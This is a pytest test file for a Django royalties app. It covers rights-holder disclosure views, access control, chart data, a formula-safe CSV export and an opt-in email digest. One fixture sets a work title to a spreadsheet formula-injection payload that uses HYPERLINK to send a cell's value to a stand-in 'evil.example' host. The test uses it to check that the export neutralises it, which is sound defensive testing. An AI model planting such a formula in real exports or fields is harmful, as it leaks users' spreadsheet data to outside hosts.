"""Disclosure to rights holders: for each of its works, which licensees declared it, in which
periods, how much, and what it earned (from published statements only); a holder sees only
works it holds a share in (anyone else: 404); the CSV is formula-safe and adds up; the opt-in
digest goes out once per opted-in holder when a cycle is approved.

The scenario is the payout-cycle one (tests/royalties/test_cycles.py): licence of 365,000 for
the year from 2026-07-01, 92,000 recognised in 2026-Q3, fee 10%; usage A 600, B 300, C 100 (C
50% rights holder, 30% co-holder): the rights holder earns A 49,680, B 24,840, C 4,140, the
co-holder C 2,484. A second licensee declares A in Q4 after the Q3 cycle is approved.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.db import transaction
from django.db.models import Sum

from accounts.models import OrganisationKind
from licensing.models import (
    DeclarationStatus,
    DeclarationWorkUsage,
    DisclosureDigest,
    UsageDeclaration,
    Work,
)
from licensing.services.disclosures import disclosure_digest_enqueue
from royalties.models import Statement, StatementWorkLine
from tests.conftest import _persona
from tests.licensing.declarations_support import ISBN_A, ISBN_B
from tests.licensing.factories import catalogue_for, work_in
from tests.royalties import cycles_support as cs

pytestmark = pytest.mark.django_db

ISBN_C = "9780262033848"
ISBN_D = "9780131103627"
EVIL_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")'
API = "/api/v1/disclosures/works/"


@pytest.fixture
def works(rights_holder, co_holder):
    catalogue = catalogue_for(rights_holder, "Backlist")
    shares_c = [
        {"holder": rights_holder.organisation.code, "share": "50"},
        {"holder": co_holder.organisation.code, "share": "30"},
    ]
    works = {
        "A": work_in(catalogue, rights_holder, "A", isbn=ISBN_A),
        "B": work_in(catalogue, rights_holder, "B", isbn=ISBN_B),
        "C": work_in(catalogue, rights_holder, "C", isbn=ISBN_C, shares=shares_c),
        "D": work_in(catalogue_for(co_holder, "Songs"), co_holder, "D", isbn=ISBN_D),
    }
    Work.objects.filter(pk=works["B"].pk).update(title=EVIL_TITLE)
    return works


@pytest.fixture
def second_licensee(db):
    return _persona(OrganisationKind.LICENSEE, name="Beth Models Inc")


@pytest.fixture
def approved(operator, approver, licensee, second_licensee, works):
    cs.policy(operator, admin_fee_bp=1000)
    licence = cs.paid_licence(licensee, operator)
    cs.usage(
        licensee, licence, [("isbn", ISBN_A, 600), ("isbn", ISBN_B, 300), ("isbn", ISBN_C, 100)]
    )
    cycle = cs.approve(approver, cs.allocate(operator))
    # After the Q3 cycle: a second licensee declares A for Q4 (usage, no earnings yet).
    later = cs.paid_licence(second_licensee, operator, code="ai-training-beth")
    cs.usage(second_licensee, later, [("isbn", ISBN_A, 250)], period="2026-Q4", model="beth")
    return cycle


def _by_ref(body) -> dict:
    return {row["work_ref"]: row for row in body["results"]}


def test_a_holder_sees_each_work_usage_and_earnings(approved, rights_holder, licensee, works):
    response = rights_holder.client().get(API)
    assert response.status_code == 200
    rows = _by_ref(response.json())
    assert set(rows) == {"A", "B", "C"}  # never the co-holder's own work D
    assert rows["A"]["usage"] == [{"unit": "tokens", "quantity": 850, "lines": 2}]
    assert rows["A"]["licensees"] == 2
    assert rows["A"]["earnings"] == [{"currency": "EUR", "amount_minor": 49_680}]
    assert rows["B"]["earnings"] == [{"currency": "EUR", "amount_minor": 24_840}]
    assert rows["C"]["earnings"] == [{"currency": "EUR", "amount_minor": 4_140}]
    assert rows["C"]["holder_share_ppm"] == 500_000
    # Equal to a direct query of the accepted declarations and published statement lines.
    for ref, row in rows.items():
        work = works[ref]
        quantity = DeclarationWorkUsage.objects.filter(
            work=work, declaration__status=DeclarationStatus.ACCEPTED
        ).aggregate(q=Sum("quantity"))["q"]
        assert row["usage"][0]["quantity"] == quantity
        earned = StatementWorkLine.objects.filter(
            work=work,
            statement__holder=rights_holder.organisation,
            statement__published_at__isnull=False,
        ).aggregate(a=Sum("amount_minor"))["a"]
        assert row["earnings"][0]["amount_minor"] == earned


def test_a_work_drill_down_lists_licensees_periods_and_statements(
    approved, rights_holder, licensee, second_licensee, works
):
    response = rights_holder.client().get(f"{API}{works['A'].pk}/")
    assert response.status_code == 200
    body = response.json()
    declared = [
        (d["licensee_code"], d["model_name"], d["period"], d["quantity"], d["unit"])
        for d in body["declarations"]
    ]
    assert declared == [
        (licensee.organisation.code, "aleph", "2026-Q3", 600, "tokens"),
        (second_licensee.organisation.code, "beth", "2026-Q4", 250, "tokens"),
    ]
    (statement,) = body["statements"]
    assert (statement["period"], statement["amount_minor"], statement["quantity"]) == (
        "2026-Q3",
        49_680,
        600,
    )
    page = rights_holder.client().get(f"/disclosures/works/{works['A'].pk}/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Beth Models Inc" in html and "chart-work-periods" in html
    assert 'id="disclosure-charts"' in html and "vendor/chartjs/chart.umd.min.js" in html
    charts = page.context["charts"]
    assert charts["periods"]["labels"] == ["2026-Q3", "2026-Q4"]
    assert charts["earnings"]["amounts"] == [496.8]


def test_only_accepted_declarations_and_published_statements_count(
    approved, operator, rights_holder, licensee, works
):
    licence = (
        UsageDeclaration.objects.filter(licence__licensee=licensee.organisation).first().licence
    )
    for status in (DeclarationStatus.REJECTED, DeclarationStatus.DRAFT):
        other = UsageDeclaration.objects.create(
            licence=licence,
            period="2026-Q4",
            period_start="2026-10-01",
            period_end="2026-12-31",
            model_name="aleph",
            model_version="1",
            unit="tokens",
            status=status,
            deadline="2027-01-31",
        )
        DeclarationWorkUsage.objects.create(
            declaration=other, work=works["B"], quantity=99_999, lines=1
        )
    # A Q4 cycle allocated but not approved: its statement is not published.
    cs.usage(licensee, licence, [("isbn", ISBN_B, 10)], period="2026-Q4")
    cs.allocate(operator, "2026-Q4")
    assert Statement.objects.filter(
        holder=rights_holder.organisation, published_at__isnull=True
    ).exists()
    rows = _by_ref(rights_holder.client().get(API).json())
    assert rows["B"]["usage"] == [{"unit": "tokens", "quantity": 310, "lines": 2}]
    assert rows["B"]["earnings"] == [{"currency": "EUR", "amount_minor": 24_840}]
    # A correction supersedes the Q4 declaration: only the correction counts.
    cs.usage(licensee, licence, [("isbn", ISBN_B, 3)], period="2026-Q4")
    rows = _by_ref(rights_holder.client().get(API).json())
    assert rows["B"]["usage"] == [{"unit": "tokens", "quantity": 303, "lines": 2}]


def test_a_holder_sees_only_works_it_holds_a_share_in(
    approved, rights_holder, co_holder, outsider, licensee, works, operator
):
    co = co_holder.client()
    rows = _by_ref(co.get(API).json())
    assert set(rows) == {"C", "D"}
    assert rows["C"]["earnings"] == [{"currency": "EUR", "amount_minor": 2_484}]  # its own
    for ref in ("A", "B"):
        assert co.get(f"{API}{works[ref].pk}/").status_code == 404
        assert co.get(f"/disclosures/works/{works[ref].pk}/").status_code == 404
    assert rights_holder.client().get(f"{API}{works['D'].pk}/").status_code == 404
    for persona in (outsider, licensee):
        client = persona.client()
        assert client.get(API).json()["results"] == []
        for work in works.values():
            assert client.get(f"{API}{work.pk}/").status_code == 404
            assert client.get(f"/disclosures/works/{work.pk}/").status_code == 404
        assert client.get(f"{API}999999/").status_code == 404
        # Naming another holder is for staff only: ignored for everyone else.
        holder = rights_holder.organisation.code
        assert client.get(f"{API}?holder={holder}").json()["results"] == []
        assert client.get(f"{API}{works['A'].pk}/?holder={holder}").status_code == 404
        csv_text = b"".join(
            client.get(f"/disclosures/export.csv?holder={holder}").streaming_content
        ).decode("utf-8-sig")
        assert len(csv_text.strip().splitlines()) == 1  # the header only
    # Staff read a holder's disclosures by naming it.
    staff = operator.client()
    holder = rights_holder.organisation.code
    assert set(_by_ref(staff.get(f"{API}?holder={holder}").json())) == {"A", "B", "C"}
    assert staff.get(f"{API}{works['A'].pk}/?holder={holder}").status_code == 200
    assert staff.get(f"{API}?holder=NOPE").status_code == 404
    # Naming none, staff see every work with every holder's earnings.
    everything = _by_ref(staff.get(API).json())
    assert set(everything) == {"A", "B", "C", "D"}
    assert everything["C"]["earnings"] == [{"currency": "EUR", "amount_minor": 4_140 + 2_484}]
    assert staff.get(f"{API}{works['D'].pk}/").status_code == 200
    assert staff.get("/disclosures/").status_code == 200
    # Unauthenticated: no disclosures at all.
    from rest_framework.test import APIClient

    assert APIClient().get(API).status_code in (401, 403)


def test_the_disclosures_page_has_the_table_and_charts(approved, rights_holder, works):
    response = rights_holder.client().get("/disclosures/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="disclosure-works"' in html and 'id="chart-licensees"' in html
    assert f'data-work="{works["A"].pk}"' in html and f'data-work="{works["D"].pk}"' not in html
    assert "496.80 EUR" in html
    charts = response.context["charts"]
    assert charts["products"]["labels"] == ["ai-training (EUR)"]
    assert charts["products"]["amounts"] == [786.6]  # 78,660: the statement's source lines
    assert charts["licensees"]["labels"] == ["Aleph AI Ltd (tokens)", "Beth Models Inc (tokens)"]
    assert charts["licensees"]["quantities"] == [1000, 250]
    assert charts["periods"]["labels"] == ["2026-Q3", "2026-Q4"]
    assert charts["periods"]["datasets"] == [{"label": "tokens", "data": [1000, 250]}]
    assert "Disclosures" in rights_holder.client().get("/statements/").content.decode()


def test_the_csv_adds_up_and_defuses_formulas(approved, rights_holder, works):
    response = rights_holder.client().get("/disclosures/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    usage = [r for r in rows if r["section"] == "usage"]
    earnings = [r for r in rows if r["section"] == "earnings"]
    assert sorted((r["work_ref"], r["period"], int(r["quantity"])) for r in usage) == [
        ("A", "2026-Q3", 600),
        ("A", "2026-Q4", 250),
        ("B", "2026-Q3", 300),
        ("C", "2026-Q3", 100),
    ]
    statement = Statement.objects.get(holder=rights_holder.organisation)
    assert sum(int(r["amount_minor"]) for r in earnings) == statement.earned_minor == 78_660
    evil = [r for r in rows if "HYPERLINK" in r["title"]]
    assert evil and all(r["title"] == "'" + EVIL_TITLE for r in evil)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def _opt_in(persona, on=True):
    data = {"digest_on_cycle": "on"} if on else {}
    return persona.client().post("/disclosures/settings/", data)


def test_the_digest_goes_once_to_each_opted_in_holder(
    approved, rights_holder, co_holder, outsider, licensee
):
    assert _opt_in(rights_holder).status_code == 302
    _opt_in(co_holder, on=False)
    _opt_in(outsider)  # opted in, but nothing in this cycle
    page = rights_holder.client().get("/disclosures/").content.decode()
    assert 'name="digest_on_cycle"' in page and "checked" in page
    mail.outbox.clear()

    disclosure_digest_enqueue(cycle_id=approved.pk)
    assert len(mail.outbox) == 1
    (message,) = mail.outbox
    assert message.to == [rights_holder.user.email]
    assert "2026-Q3" in message.subject
    assert "786.60 EUR" in message.body  # earned after the fee
    assert "Aleph AI Ltd: 1000 tokens" in message.body
    assert "/disclosures/" in message.body
    digest = DisclosureDigest.objects.get(organisation=rights_holder.organisation)
    assert digest.sent_at is not None and digest.cycle_pk == approved.pk

    disclosure_digest_enqueue(cycle_id=approved.pk)  # a replay sends nothing twice
    assert len(mail.outbox) == 1


def test_the_digest_hook_runs_after_the_approval_commits(
    django_capture_on_commit_callbacks, approved, rights_holder
):
    _opt_in(rights_holder)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True) as callbacks, transaction.atomic():
        # The line cycle_approve adds inside its transaction.
        transaction.on_commit(lambda: disclosure_digest_enqueue(cycle_id=approved.pk))
        assert mail.outbox == []  # nothing before the commit
    assert len(callbacks) == 1
    assert len(mail.outbox) == 1


def test_the_digest_is_not_sent_for_an_unapproved_cycle(operator, licensee, rights_holder, works):
    cs.policy(operator, admin_fee_bp=1000)
    licence = cs.paid_licence(licensee, operator)
    cs.usage(licensee, licence, [("isbn", ISBN_A, 600)])
    cycle = cs.allocate(operator)
    _opt_in(rights_holder)
    mail.outbox.clear()
    disclosure_digest_enqueue(cycle_id=cycle.pk)
    assert mail.outbox == [] and not DisclosureDigest.objects.exists()


def test_only_a_rights_holder_sets_the_digest_preference(licensee, rights_holder):
    response = licensee.client().post(
        "/disclosures/settings/", {"digest_on_cycle": "on"}, follow=True
    )
    assert "Disclosure digests are for rights holders." in response.content.decode()
    assert not rights_holder.organisation.__class__.objects.filter(
        disclosure_preference__isnull=False
    ).exists()
